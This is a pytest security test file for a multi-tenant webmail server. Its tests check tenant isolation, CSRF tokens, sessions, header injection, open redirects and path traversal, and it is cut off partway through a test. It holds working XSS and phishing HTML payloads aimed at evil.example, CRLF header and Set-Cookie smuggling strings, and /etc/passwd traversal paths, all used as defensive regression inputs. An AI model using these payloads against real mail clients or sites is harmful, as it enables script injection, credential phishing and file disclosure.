"""The webmail tried from outside by a curious tenant and a hostile sender (red team).

One server for the module (two domains: alice@a.example, bob@b.example, a domain
admin of each), real sockets, httpx as the browser. Each test is a class of
attack: what held is kept as a regression test, what broke is fixed at its root.
"""

from __future__ import annotations

import base64
import html
import re
import smtplib
import socket
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from conftest import BACKENDS
from databases import ServerDatabase
from server_rig import PASSWORD, RunningServer
from web_rig import Browser, web_server

A_HOST = "mail.a.example"
B_HOST = "mail.b.example"


@pytest.fixture(scope="module", params=BACKENDS)
def server(request: pytest.FixtureRequest,
           tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    """One server a database kind (its own database on a server, dropped after)."""
    tmp = Path(tmp_path_factory.mktemp("attacks"))
    database = None if request.param == "sqlite" else ServerDatabase(request.param)
    try:
        with web_server(tmp, database.url if database else None) as srv:
            srv.add_user("alice@a.example")
            srv.add_user("bob@b.example")
            srv.add_user("boss@a.example", admin=True)
            srv.add_user("boss@b.example", admin=True)
            yield srv
    finally:
        if database is not None:
            database.drop()


def _send_raw(server: RunningServer, raw: bytes, to: str) -> None:
    with smtplib.SMTP("127.0.0.1", server.port("smtp"), timeout=10) as smtp:
        smtp.sendmail("mallory@remote.example", [to], raw)


def _login(server: RunningServer, userid: str, host: str) -> Browser:
    b = Browser(server, host=host)
    assert b.login(userid).status_code == 303, userid
    return b


def _inbox(b: Browser) -> str:
    return str(b.get("/").headers["location"]).split("?")[0]


def _message_links(b: Browser, folder: str) -> list[str]:
    return re.findall(r'href="(/mail/\d+/\d+)"', b.get(folder).text)


def _message_with_subject(b: Browser, subject: str) -> str:
    inbox = _inbox(b)
    page = b.get(inbox).text
    for link in dict.fromkeys(_message_links(b, inbox)):
        if subject in b.get(link).text:
            return link
    raise AssertionError(f"no message {subject!r} in {inbox}: {page[:200]}")


BOB_SECRET = "bobs-private-subject-7f3a"


def _bob_mail() -> bytes:
    return (
        b"From: Ann <ann@remote.example>\r\nTo: bob@b.example\r\n"
        b"Subject: " + BOB_SECRET.encode() + b"\r\nMessage-ID: <secret-1@remote.example>\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
        b"--B\r\nContent-Type: text/plain\r\n\r\nbody-of-bob-secret\r\n"
        b"--B\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Disposition: attachment; filename=secret.bin\r\n\r\nattached-bob-secret\r\n"
        b"--B\r\nContent-Type: message/rfc822\r\n\r\n"
        b"From: x@remote.example\r\nSubject: inner-bob-secret\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=C\r\n\r\n"
        b"--C\r\nContent-Type: text/plain\r\n\r\ninner body\r\n"
        b"--C\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Disposition: attachment; filename=inner.bin\r\n\r\ninner-attached\r\n"
        b"--C--\r\n"
        b"--B--\r\n")


@pytest.fixture(scope="module")
def tenants(server: RunningServer) -> Iterator[dict[str, object]]:
    """bob's things (a message with parts, a contact, an upload, a draft, a folder) and
    alice logged in on her own domain's host."""
    _send_raw(server, _bob_mail(), "bob@b.example")
    _send_raw(server, _bob_mail().replace(b"Subject: ", b"In-Reply-To: <secret-1@remote"
                                           b".example>\r\nSubject: Re: "), "bob@b.example")
    bob = _login(server, "bob", B_HOST)
    alice = _login(server, "alice", A_HOST)
    try:
        message = _message_with_subject(bob, BOB_SECRET)
        folder = message.rsplit("/", 1)[0]
        inner = re.findall(re.escape(message) + r'/msg/([0-9.]+)"', bob.get(message).text)
        assert inner and "inner-bob-secret" in bob.get(f"{message}/msg/{inner[0]}").text
        assert bob.post("/contacts/save", {"name": "Secret Contact",
                                           "email": "secret-contact@remote.example"}
                        ).status_code == 303
        contact = re.findall(r'href="/contacts/(\d+)"', bob.get("/contacts").text)
        assert contact
        upload = bob.client.post("/compose/upload", params={"name": "up.txt"},
                                 content=b"bob-upload-secret",
                                 headers={"X-CSRF-Token": bob.csrf,
                                          "content-type": "text/plain"}).json()["id"]
        saved = bob.client.post("/compose/send", data={
            "csrf_token": bob.csrf, "action": "save", "to": "x@remote.example",
            "subject": "bob-draft-secret", "body": "draft"},
            headers={"Accept": "application/json"})
        assert saved.status_code == 200, saved.text
        draft = saved.json()["draft"]
        drafts = saved.json()["carry_from"].split("/")[0]
        assert bob.post("/folders/create", {"name": "BobPrivate"}).status_code == 303
        assert bob.post(folder + "/view", {"view": "conversations"}).status_code == 303
        threads = re.findall(r'href="(/mail/\d+/thread/[^"?]+)', bob.get(folder).text)
        yield {"bob": bob, "alice": alice, "message": message, "folder": folder, "inner": inner[0],
               "contact": contact[0], "upload": upload, "draft": draft, "drafts": drafts,
               "threads": threads}
    finally:
        bob.close()
        alice.close()


def _no_secret(answer: httpx.Response, what: str) -> None:
    body = answer.text
    for secret in (BOB_SECRET, "body-of-bob-secret", "attached-bob-secret", "inner-bob-secret",
                   "Secret Contact", "bob-upload-secret", "bob-draft-secret", "BobPrivate",
                   "bob@b.example"):
        assert secret not in body, (what, secret, answer.status_code)


def test_another_tenants_ids_read_nothing(tenants: dict[str, object]) -> None:
    alice: Browser = tenants["alice"]  # type: ignore[assignment]
    message = str(tenants["message"])
    folder = str(tenants["folder"])
    folder_id, uid = message.split("/")[2:4]
    draft, drafts, inner = tenants["draft"], tenants["drafts"], tenants["inner"]
    gets = [folder, message, message + "?pane=1", message + "/body", message + "/part/2",
            message + "/part/1", message + "/attachments.zip", message + "/source",
            message + "/print", f"{message}/msg/{inner}", f"{message}/msg/{inner}/body",
            f"{message}/msg/{inner}/source", f"{message}/msg/{inner}/print",
            f"{message}/msg/{inner}/part/1", f"{message}/msg/{inner}/attachments.zip",
            f"/compose/reply/{folder_id}/{uid}", f"/compose/forward/{folder_id}/{uid}",
            f"/compose/reply-all/{folder_id}/{uid}",
            f"/compose/forward/{folder_id}/{uid}/msg/{inner}",
            f"/compose/forward-attached/{folder_id}/{uid}",
            f"/compose/draft/{drafts}/{draft}", f"/contacts/{tenants['contact']}",
            f"/mail/{drafts}"]
    gets += [str(t) for t in tenants["threads"]]  # type: ignore[attr-defined]
    assert tenants["threads"], "bob's conversation link"
    bob: Browser = tenants["bob"]  # type: ignore[assignment]
    for path in gets:  # each is something (so a 404 for alice is her not being bob)
        assert bob.get(path).status_code == 200, path
    for path in gets:
        answer = alice.get(path)
        assert answer.status_code in (404, 422), (path, answer.status_code)
        _no_secret(answer, path)
    # Her own folder ids with bob's thread id / uid: nothing either.
    own = _inbox(alice)
    for t in tenants["threads"]:  # type: ignore[attr-defined]
        answer = alice.get(own + "/thread/" + str(t).rsplit("/", 1)[1])
        assert answer.status_code == 404, t
        _no_secret(answer, "own folder, bob's thread")
    # What she may search and complete holds none of bob's either.
    for path in ("/search?q=secret", "/search?q=bob", "/compose/recipients?q=secret",
                 "/contacts/export.csv", "/contacts/export.vcf", "/folders", own):
        answer = alice.get(path)
        _no_secret(answer, path)


def test_another_tenants_ids_change_nothing(tenants: dict[str, object]) -> None:
    alice: Browser = tenants["alice"]  # type: ignore[assignment]
    bob: Browser = tenants["bob"]  # type: ignore[assignment]
    message = str(tenants["message"])
    folder = str(tenants["folder"])
    folder_id, uid = message.split("/")[2:4]
    bob_folders = bob.get("/folders").text
    private = re.search(r'data-folder-id="(\d+)" data-folder-name="BobPrivate"', bob_folders)
    assert private is not None
    own = _inbox(alice)
    alice.get(own)
    posts: list[tuple[str, dict[str, object]]] = [
        (folder + "/actions", {"action": "delete", "uid": uid}),
        (folder + "/actions", {"action": "read", "uid": uid}),
        (folder + "/actions", {"toggle_flag": uid}),
        (own + "/actions", {"action": "move", "uid": uid, "target": private.group(1)}),
        (folder + "/empty", {}),
        (folder + "/view", {"view": "messages"}),
        (message + "/trust-sender", {}),
        (f"/folders/{private.group(1)}/rename", {"name": "Stolen"}),
        (f"/folders/{private.group(1)}/delete", {}),
        (f"/folders/{folder_id}/delete", {}),
    ]
    for path, data in posts:
        answer = alice.post(path, data)
        assert answer.status_code in (400, 404), (path, answer.status_code)
        _no_secret(answer, path)
    # Ids inside forms: a contact, an upload token, a draft, a message to attach.
    assert alice.post("/contacts/save", {"id": tenants["contact"], "name": "Mine",
                                         "email": "mine@remote.example"}).status_code == 404
    alice.post("/contacts/delete", {"id": tenants["contact"]})
    alice.post(f"/compose/upload/{tenants['upload']}/delete")
    sent = alice.client.post("/compose/send", data={
        "csrf_token": alice.csrf, "action": "save", "to": "x@remote.example",
        "subject": "alice draft", "body": "x", "draft": str(tenants["draft"]),
        "attach_message": f"{folder_id}/{uid}"}, headers={"Accept": "application/json"})
    assert sent.status_code == 400 and sent.json()["field"] == "attach_message"
    carried = alice.client.post("/compose/send", data={
        "csrf_token": alice.csrf, "action": "save", "to": "x@remote.example",
        "subject": "alice draft", "body": "x", "carry_from": f"{folder_id}/{uid}",
        "carry_part": "1"}, headers={"Accept": "application/json"})
    assert carried.status_code == 400 and carried.json()["field"] == "carry_from"
    answered = alice.client.post("/compose/send", data={
        "csrf_token": alice.csrf, "action": "send", "to": "alice@a.example",
        "subject": "a", "body": "x", "original": f"{folder_id}/{uid}/answered"},
        headers={"Accept": "application/json"})
    assert answered.status_code == 200, answered.text
    saved = alice.client.post("/compose/send", data={
        "csrf_token": alice.csrf, "action": "save", "to": "x@remote.example",
        "subject": "alice draft", "body": "x", "draft": str(tenants["draft"]),
        "upload": str(tenants["upload"])}, headers={"Accept": "application/json"})
    assert saved.status_code == 200
    mine = saved.json()["carry_from"]
    assert saved.json()["carry_parts"] == []  # bob's upload was not attached
    assert "Ym9iLXVwbG9hZC1zZWNyZXQ=" not in alice.get(f"/mail/{mine}/source").text
    # bob still has all of it.
    page = bob.get(message)
    assert page.status_code == 200 and BOB_SECRET in page.text
    assert "Secret Contact" in bob.get(f"/contacts/{tenants['contact']}").text
    assert "BobPrivate" in bob.get("/folders").text
    assert "bob-draft-secret" in bob.get(
        f"/compose/draft/{tenants['drafts']}/{tenants['draft']}").text
    kept = bob.client.post("/compose/send", data={
        "csrf_token": bob.csrf, "action": "save", "to": "x@remote.example", "subject": "s",
        "body": "b", "upload": str(tenants["upload"])}, headers={"Accept": "application/json"})
    assert kept.status_code == 200
    assert "Ym9iLXVwbG9hZC1zZWNyZXQ=" in bob.get(f"/mail/{kept.json()['carry_from']}/source").text


def test_admin_pages_refused_to_users_and_other_domains_admins(server: RunningServer) -> None:
    alice = _login(server, "alice", A_HOST)
    boss = _login(server, "boss", A_HOST)
    try:
        for path in ("/admin", "/admin/domains/a.example", "/admin/domains/b.example"):
            answer = alice.get(path)
            assert answer.status_code == 403, path
            assert "bob@b.example" not in answer.text
        home = boss.get("/admin")
        assert home.status_code == 200 and "a.example" in home.text
        assert "b.example" not in home.text
        assert "alice@a.example" in boss.get("/admin/domains/a.example").text
        for name in ("b.example", "B.EXAMPLE", "b.example.", "nothing.example", "%2e%2e"):
            answer = boss.get("/admin/domains/" + name)
            assert answer.status_code == 404, name
            assert "bob@b.example" not in answer.text
        # A domain admin's session is not a server admin's: no queue.
        assert "queue" not in home.text.lower()
    finally:
        alice.close()
        boss.close()


HOSTILE_HTML = """<html><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/r">
<link rel="stylesheet" href="https://evil.example/l.css">
<style>@import url(https://evil.example/i.css); p{background:url('https://evil.example/bg')}
div{width:expression(alert(1))} a{behavior:url(x.htc)}</style>
<script>alert('s1')</script></head>
<body onload="alert('s2')">
<p style="background-image:url(https://evil.example/inline)">style</p>
<img src="https://evil.example/pixel.gif" onerror="alert('s3')">
<img srcset="https://evil.example/set1.png 1x, https://evil.example/set2.png 2x" src="data:,">
<a href="javascript:alert('s4')">js link</a>
<a href="JaVaScRiPt&#58;alert('s5')">js entity link</a>
<a href="  java\tscript:alert('s6')">js tab link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="vbscript:msgbox(1)">vb</a>
<svg><script>alert('s7')</script><a xlink:href="javascript:alert('s8')"><text>t</text></a>
<animate attributeName="href" to="javascript:alert('s9')"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('s10')></style></mglyph>
</table></mtext></math>
<form action="https://evil.example/phish" method="post"><input name="password" type="password">
<button formaction="https://evil.example/f2">go</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<embed src="https://evil.example/e"><video poster="https://evil.example/poster"></video>
<noscript><p title="</noscript><img src=x onerror=alert('s11')>"></noscript>
<table background="https://evil.example/tbg"><tr><td>cell</td></tr></table>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>
<p><img/src="x"/onerror=alert('s12')>
<<script>script>alert('s13')<</script>/script>
<a href="https://good.example/" target="_self">good link</a>
</body></html>"""


def _hostile_html_mail() -> bytes:
    return ("From: m@remote.example\r\nTo: bob@b.example\r\nSubject: hostile-html\r\n"
            "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n"
            "Content-Transfer-Encoding: 8bit\r\n\r\n" + HOSTILE_HTML.replace("\n", "\r\n")
            + "\r\n").encode()


def test_hostile_html_is_inert_in_the_frame(server: RunningServer) -> None:
    _send_raw(server, _hostile_html_mail(), "bob@b.example")
    bob = _login(server, "bob", B_HOST)
    try:
        message = _message_with_subject(bob, "hostile-html")
        page = bob.get(message)
        frame = bob.get(message + "/body")
        assert frame.status_code == 200
        policy = frame.headers["content-security-policy"]
        assert "sandbox" in policy and "script-src" not in policy.replace("default-src 'none'", "")
        assert "default-src 'none'" in policy and "form-action 'none'" in policy
        for answer in (page, bob.get(message + "?pane=1")):  # the frame holds the body
            text = answer.text.lower()
            assert "evil.example" not in text, answer.url
            for bad in ("alert(", "onerror", "onload", "javascript:", "<base", "http-equiv"):
                assert bad not in text, (answer.url, bad)
        for answer in (frame, bob.get(message + "/print")):
            text = answer.text.lower()
            assert "evil.example" not in text, answer.url
            for bad in ("<script>alert", "onerror", "onload", "javascript:", "vbscript:",
                        "data:text/html", "expression(", "<base", "http-equiv", "<form",
                        "<iframe", "<object", "<embed", "formaction", "behavior:",
                        "<svg", "xlink:href", "<meta http"):
                assert bad not in text, (answer.url, bad)
        assert "good link" in frame.text and "cell" in frame.text
        # Links leave in a new context without our origin as referrer.
        link = re.search(r'<a [^>]*href="https://good\.example/"[^>]*>', frame.text)
        assert link and 'target="_blank"' in link.group(0) and "noopener" in link.group(0)
        # "Show images" lets images through, still nothing that runs or posts.
        shown = bob.shown(message).text.lower()
        for bad in ("<script", "onerror", "javascript:", "<form", "<base", "http-equiv"):
            assert bad not in shown, bad
    finally:
        bob.close()


def test_hostile_headers_and_file_names_are_shown_as_text(server: RunningServer) -> None:
    raw = ("From: =?utf-8?b?" + base64.b64encode(
        "<img src=x onerror=alert(1)>\u202egnp.exe\u0007".encode()).decode() + "?= "
        "<spoof@remote.example>\r\n"
        "To: bob@b.example\r\n"
        "Subject: =?utf-8?q?hdr-attack_=3Cscript=3Ealert(1)=3C/script=3E_=0D=0AX-Injected:_1?=\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
        "--B\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
        "--B\r\nContent-Type: text/html\r\n"
        "Content-Disposition: attachment; filename=\"../../etc/\\\"passwd\r\n"
        " x.html\"\r\n\r\n<script>alert('attached')</script>\r\n"
        "--B\r\nContent-Type: image/svg+xml\r\n"
        "Content-Disposition: inline; filename*=utf-8''%0d%0aSet-Cookie:%20x=1%22.svg\r\n\r\n"
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(2)</script></svg>\r\n"
        "--B\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; "
        "filename=\"=?utf-8?q?evil=0A=0D.txt?=\"\r\n\r\ntext\r\n"
        "--B--\r\n").encode()
    _send_raw(server, raw, "bob@b.example")
    bob = _login(server, "bob", B_HOST)
    try:
        message = _message_with_subject(bob, "hdr-attack")
        inbox = _inbox(bob)
        for answer in (bob.get(inbox), bob.get(message), bob.get(message + "/print"),
                       bob.get(message + "/source")):
            text = answer.text
            assert "<script>alert(1)" not in text and "<img src=x" not in text, answer.url
            assert "\u202e" not in text or "<bdi" in text or "dir=" in text, answer.url
            assert "\u0007" not in text, answer.url
        numbers = sorted(set(re.findall(re.escape(message) + r'/part/(\d+)',
                                        bob.get(message).text)))
        assert numbers == ["1", "2", "3"]
        for number in numbers:
            part = bob.get(f"{message}/part/{number}")
            assert part.status_code == 200, number
            kind = part.headers["content-type"]
            assert not kind.startswith(("text/html", "image/svg")), (number, kind)
            disposition = part.headers["content-disposition"]
            assert disposition.startswith("attachment"), disposition
            assert "\r" not in disposition and "\n" not in disposition
            assert "set-cookie" not in {k.lower() for k in part.headers if k != "set-cookie"}
            assert "x=1" not in part.headers.get("set-cookie", "")
            assert "/" not in disposition.split("filename=")[-1].strip('"').replace(
                "%2F", "/"), disposition
            assert part.headers["x-content-type-options"] == "nosniff"
            assert "sandbox" in part.headers["content-security-policy"]
        # A preview is only for raster images: the SVG stays a download.
        preview = bob.get(f"{message}/part/2?preview=1")
        assert preview.headers["content-disposition"].startswith("attachment")
        assert not preview.headers["content-type"].startswith("image/svg")
    finally:
        bob.close()


def test_a_subjects_bidi_overrides_stay_out_of_the_tab_title(server: RunningServer) -> None:
    # The tab title cannot isolate them (no <bdi> there): "invoice\u202efdp.exe"
    # would read "invoice exe.pdf" in the tab. The page's own text keeps them, isolated.
    subject = "title-bidi invoice\u202efdp.exe \u2067x\u2069"
    raw = ("From: a@remote.example\r\nTo: bob@b.example\r\nSubject: =?utf-8?b?"
           + base64.b64encode(subject.encode()).decode() + "?=\r\n\r\nbody\r\n").encode()
    _send_raw(server, raw, "bob@b.example")
    bob = _login(server, "bob", B_HOST)
    try:
        message = _message_with_subject(bob, "title-bidi")
        for url in (message, message + "/print"):
            page = bob.get(url).text
            title = html.unescape(re.search(r"<title>(.*?)</title>", page, re.S).group(1))
            assert "title-bidi invoicefdp.exe x" in title, (url, title)
            assert not set(title) & {"\u202e", "\u2067", "\u2069"}, url
    finally:
        bob.close()


def test_deep_mime_nesting_and_many_headers_answer_quickly(server: RunningServer) -> None:
    depth = 2000
    head = "".join(f"Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n"
                   for i in range(depth))
    tail = "".join(f"\r\n--b{i}--" for i in reversed(range(depth)))
    raw = ("From: m@remote.example\r\nTo: bob@b.example\r\nSubject: deep-mime\r\n"
           "MIME-Version: 1.0\r\n" + head + "Content-Type: text/plain\r\n\r\ndeep" + tail
           + "\r\n").encode()
    _send_raw(server, raw, "bob@b.example")
    many = ("From: m@remote.example\r\nTo: bob@b.example\r\nSubject: many-headers\r\n"
            + "".join(f"X-H{i}: v\r\n" for i in range(20000))
            + "Comments: =?utf-8?b?" + "QUFB" * 200 + "?=\r\n\r\nbody\r\n").encode()
    _send_raw(server, many, "bob@b.example")
    bob = _login(server, "bob", B_HOST)
    try:
        for subject in ("deep-mime", "many-headers"):
            message = _message_with_subject(bob, subject)
            for path in ("", "/body", "/print", "/source", "/attachments.zip", "/part/1",
                         "/msg/1"):
                answer = bob.get(message + path)  # the client's 20 s timeout bounds it
                assert answer.status_code in (200, 404), (subject, path, answer.status_code)
    finally:
        bob.close()


def _state_changing_routes() -> list[str]:
    from nmail.web.routes import ROUTERS

    paths = sorted({r.path for router in ROUTERS for r in router.routes  # type: ignore[attr-defined]
                    if getattr(r, "methods", set()) & {"POST", "PUT", "PATCH", "DELETE"}})
    filled = []
    for path in paths:
        for name in re.findall(r"\{([^}:]+)(?::[^}]*)?\}", path):
            path = re.sub(r"\{" + name + r"(?::[^}]*)?\}", "1", path)
        filled.append(path)
    return filled


def test_every_state_changing_route_needs_the_session_token(server: RunningServer) -> None:
    routes = _state_changing_routes()
    assert "/compose/send" in routes and "/settings/password" in routes and len(routes) > 20
    alice = _login(server, "alice", A_HOST)
    other = _login(server, "alice", A_HOST)  # her other session's token is not this one's
    try:
        assert other.csrf and other.csrf != alice.csrf
        evil = {"Origin": "https://evil.example", "Referer": "https://evil.example/x"}
        for path in routes:
            tries = [
                alice.client.post(path, data={"name": "x"}, headers=evil),
                alice.client.post(path, data={"name": "x", "csrf_token": "forged"}),
                alice.client.post(path, data={"name": "x", "csrf_token": other.csrf}),
                alice.client.post(path, data={"csrf_token": ""}, headers={"X-CSRF-Token": ""}),
                alice.client.post(path, params={"_csrf": other.csrf},
                                  files={"file": ("a.csv", b"email\nx@remote.example\n")}),
                alice.client.post(path, content=b"x", headers={
                    "X-CSRF-Token": alice.csrf[:-1], "content-type": "text/plain"}),
            ]
            for answer in tries:
                assert answer.status_code == 403, (path, answer.status_code)
        # Nothing happened: she is still logged in, her name and folders are as they were.
        assert alice.get(_inbox(alice)).status_code == 200
        assert '"x"' not in alice.get("/folders").text
    finally:
        alice.close()
        other.close()


def test_login_and_logout_sessions(server: RunningServer) -> None:
    from sqlalchemy import func, select

    from nmail.db.web_tables import web_sessions

    def rows() -> int:
        with server.runtime.engine.connect() as conn:
            return int(conn.execute(select(func.count()).select_from(web_sessions)).scalar_one())

    b = Browser(server, host=A_HOST)
    try:
        # Login CSRF: a form posted from elsewhere has no token bound to the cookie.
        stranger = httpx.post(b.base + "/login", data={"userid": "alice", "password": PASSWORD},
                              headers={"Host": A_HOST, "Origin": "https://evil.example"})
        assert stranger.status_code == 403
        # A planted session cookie is not adopted at login.
        b.client.cookies.set("nmail_session", "planted-by-attacker-000000000000",
                            domain="127.0.0.1")
        assert b.login("alice").status_code == 303
        cookie = b.session_cookie()
        assert cookie and cookie != "planted-by-attacker-000000000000"
        set_cookie = [v for k, v in b.client.get("/").headers.multi_items()
                      if k == "set-cookie"]
        before = rows()
        assert b.post("/logout").status_code == 303
        assert rows() == before - 1  # gone on the server, not only in the browser
        for path in ("/", "/settings/account", "/compose"):
            again = httpx.get(b.base + path, headers={"Host": A_HOST, "Accept": "text/html",
                                                      "Cookie": f"nmail_session={cookie}"})
            assert again.status_code == 303 and again.headers["location"].startswith("/login")
        assert not set_cookie or all("HttpOnly" in v for v in set_cookie)
    finally:
        b.close()


def test_compose_header_values_cannot_add_headers(server: RunningServer) -> None:
    alice = _login(server, "alice", A_HOST)
    try:
        def save(**fields: str) -> httpx.Response:
            data = {"csrf_token": alice.csrf, "action": "save", "to": "x@remote.example",
                    "subject": "s", "body": "b", **fields}
            return alice.client.post("/compose/send", data=data,
                                     headers={"Accept": "application/json"})

        injections = ["a\r\nX-Injected: 1", "a\nX-Injected: 1", "a\rX-Injected: 1",
                      "a\x00b", "a\u2028X-Injected: 1", "a\x85X-Injected: 1"]
        for value in injections:
            for field in ("to", "cc", "bcc", "subject", "in_reply_to", "references"):
                if field in ("to", "cc", "bcc"):
                    value_here = "y@remote.example" + value.replace("a", ",", 1)
                else:
                    value_here = value
                answer = save(**{field: value_here})
                if answer.status_code == 200:
                    draft = answer.json()["carry_from"]
                    source = alice.get(f"/mail/{draft}/source").text
                    assert not re.search(r"^X-Injected", source, re.M), (field, value)
                    assert "\x00" not in source
                else:
                    assert answer.status_code == 400, (field, value, answer.status_code)
        # The display name is a header value too.
        for name in ("Eve\r\nX-Injected: 1", "Eve\x00", "Eve\nBcc: z@remote.example"):
            changed = alice.post("/settings/account", {"display_name": name})
            assert changed.status_code in (303, 400), name
            answer = save()
            assert answer.status_code == 200
            source = alice.get(f"/mail/{answer.json()['carry_from']}/source").text
            assert not re.search(r"^(X-Injected|Bcc: z)", source, re.M), name
        assert alice.post("/settings/account", {"display_name": "Alice"}).status_code == 303
        # Sending: a refused value says which field and sends nothing.
        answer = alice.client.post("/compose/send", data={
            "csrf_token": alice.csrf, "to": "alice@a.example", "subject": "x\r\nBcc: z@r.example",
            "body": "b"}, headers={"Accept": "application/json"})
        assert answer.status_code == 400
        assert answer.json().get("field") == "subject"
    finally:
        alice.close()


def test_compose_cannot_send_as_someone_else_and_is_bounded(server: RunningServer) -> None:
    alice = _login(server, "alice", A_HOST)
    try:
        for field in ("from", "sender", "From", "reply_to"):
            answer = alice.client.post("/compose/send", data={
                "csrf_token": alice.csrf, "action": "save", "to": "x@remote.example",
                "subject": "s", "body": "b", field: "Bob <bob@b.example>"},
                headers={"Accept": "application/json"})
            assert answer.status_code == 200
            source = alice.get(f"/mail/{answer.json()['carry_from']}/source").text
            head = source.split("\r\n\r\n")[0] if "\r\n\r\n" in source else source[:3000]
            assert "bob@b.example" not in head, field
            assert "alice@a.example" in head
        many = ", ".join(f"r{i}@remote.example" for i in range(501))
        answer = alice.client.post("/compose/send", data={
            "csrf_token": alice.csrf, "to": many, "subject": "s", "body": "b"},
            headers={"Accept": "application/json"})
        assert answer.status_code == 400 and answer.json()["field"] == "to"
        huge = alice.client.post("/compose/send", data={
            "csrf_token": alice.csrf, "to": "x@remote.example", "subject": "s" * 100_000,
            "body": "b"}, headers={"Accept": "application/json"})
        assert huge.status_code == 400
    finally:
        alice.close()


def test_no_redirect_leaves_the_site(server: RunningServer) -> None:
    targets = ["//evil.example/", "/\\evil.example", "/\t/evil.example", "/%09/evil.example",
               "https://evil.example", "https:evil.example", "\\\\evil.example",
               "/\r\n/evil.example", "/ /evil.example", "javascript:alert(1)",
               "/%5Cevil.example", "//%65vil.example", "/\u3000/evil.example",
               "data:text/html,x", "///evil.example", "/.//evil.example/.."]
    for target in targets:
        b = Browser(server, host=A_HOST)
        try:
            b.get("/login", params={"next": target})
            answer = b.post("/login", {"userid": "alice", "password": PASSWORD, "next": target})
            assert answer.status_code == 303, target
            location = answer.headers["location"]
            follow = httpx.URL(b.base).join(location)
            assert follow.host == "127.0.0.1", (target, location)
            assert not location.startswith(("//", "/\\")) and "\t" not in location, target
        finally:
            b.close()
    # The login redirect of a stranger keeps its target on the site.
    stranger = Browser(server, host=A_HOST)
    try:
        answer = stranger.get("//evil.example/x")
        if answer.status_code in (301, 302, 303, 307, 308):
            location = answer.headers["location"]
            assert httpx.URL(stranger.base).join(location).host == "127.0.0.1", location
    finally:
        stranger.close()


def test_static_files_are_only_the_static_folder(server: RunningServer) -> None:
    from server_rig import HOSTNAME

    b = Browser(server, host=A_HOST)
    try:
        assert b.get("/static/nmail.css").status_code == 200
        for path in ("/static/", "/static/../nmail.toml", "/static/%2e%2e/nmail.toml",
                     "/static/..%2f..%2fnmail.toml", "/static/%2e%2e%2f%2e%2e%2fetc/passwd",
                     "/static/....//....//etc/passwd", "/static/.%00./etc/passwd",
                     "/static//etc/passwd", "/static/%2fetc%2fpasswd", "/static/..\\..\\x"):
            answer = b.client.get(path)
            assert answer.status_code in (400, 404, 405), (path, answer.status_code)
            assert "root:" not in answer.text and "[smtp]" not in answer.text, path
            assert "Index of" not in answer.text and "print.js" not in answer.text, path
        # Over a raw socket (no client normalisation of the dots).
        for raw in ("/static/../../../../etc/passwd", "/static/../nmail.toml",
                    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"):
            with socket.create_connection(("127.0.0.1", server.port("http")), timeout=10) as s:
                s.sendall(f"GET {raw} HTTP/1.1\r\nHost: {HOSTNAME}\r\nConnection: close\r\n\r\n"
                          .encode())
                got = b""
                while chunk := s.recv(65536):
                    got += chunk
            assert b"root:" not in got and b"[smtp]" not in got, raw
            assert got.split(b" ", 2)[1] in (b"400", b"404"), (raw, got[:100])
    finally:
        b.close()


def test_odd_part_numbers_and_paths_are_refused_not_a_crash(tenants: dict[str, object]) -> None:
    bob: Browser = tenants["bob"]  # type: ignore[assignment]
    message = str(tenants["message"])
    for tail in ("/part/0", "/part/-1", "/part/99", "/part/9223372036854775807",
                 "/part/99999999999999999999", "/part/1e3", "/part/%00", "/msg/0", "/msg/-1",
                 "/msg/3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3.3",
                 "/msg/3..1", "/msg/.3", "/msg/3%2f..%2f1", "/msg/" + "1." * 2000 + "1",
                 "/msg/1/part/1", "/msg/3/msg/1", "/msg/99999999999999999999/body",
                 "/msg/%E2%80%AE", "/body?images=2", "/print?x=%00"):
        answer = bob.get(message + tail)
        assert answer.status_code in (200, 404, 422), (tail, answer.status_code)
        assert "Traceback" not in answer.text
    inner = re.findall(re.escape(message) + r'/msg/([0-9.]+)"', bob.get(message).text)
    assert inner and "inner-bob-secret" in bob.get(f"{message}/msg/{inner[0]}").text


def _logged_out(b: Browser) -> bool:
    answer = b.client.get("/settings/account", headers={"Accept": "text/html"})
    return answer.status_code == 303 and answer.headers["location"].startswith("/login")


def test_an_admins_password_reset_ends_the_accounts_web_sessions(server: RunningServer) -> None:
    """Found open: a phished account's password reset by the admin (`nmail user passwd`)
    left the thief's webmail session alive for up to session_max (7 days)."""
    server.add_user("victim@a.example")
    thief, owner, bystander = (_login(server, "victim", A_HOST), _login(server, "victim", A_HOST),
                               _login(server, "alice", A_HOST))
    try:
        server.runtime.accounts.set_password("victim@a.example", "Reset-by-admin-7")
        assert _logged_out(thief) and _logged_out(owner)
        assert not _logged_out(bystander)  # another account's session is untouched
        assert thief.login("victim", PASSWORD).status_code == 401  # the old password is dead
        assert owner.login("victim", "Reset-by-admin-7").status_code == 303
        # The user's own change keeps the session that made it and ends the others.
        other = Browser(server, host=A_HOST)
        assert other.login("victim", "Reset-by-admin-7").status_code == 303
        owner.get("/settings/account")
        changed = owner.post("/settings/password", {"current": "Reset-by-admin-7",
                                                    "new": "Owner-chose-this-8",
                                                    "repeat": "Owner-chose-this-8"})
        assert changed.status_code == 303, changed.text[:300]
        assert not _logged_out(owner) and _logged_out(other)
        other.close()
        # Logins turned off by the admin end the sessions too: turned on again later,
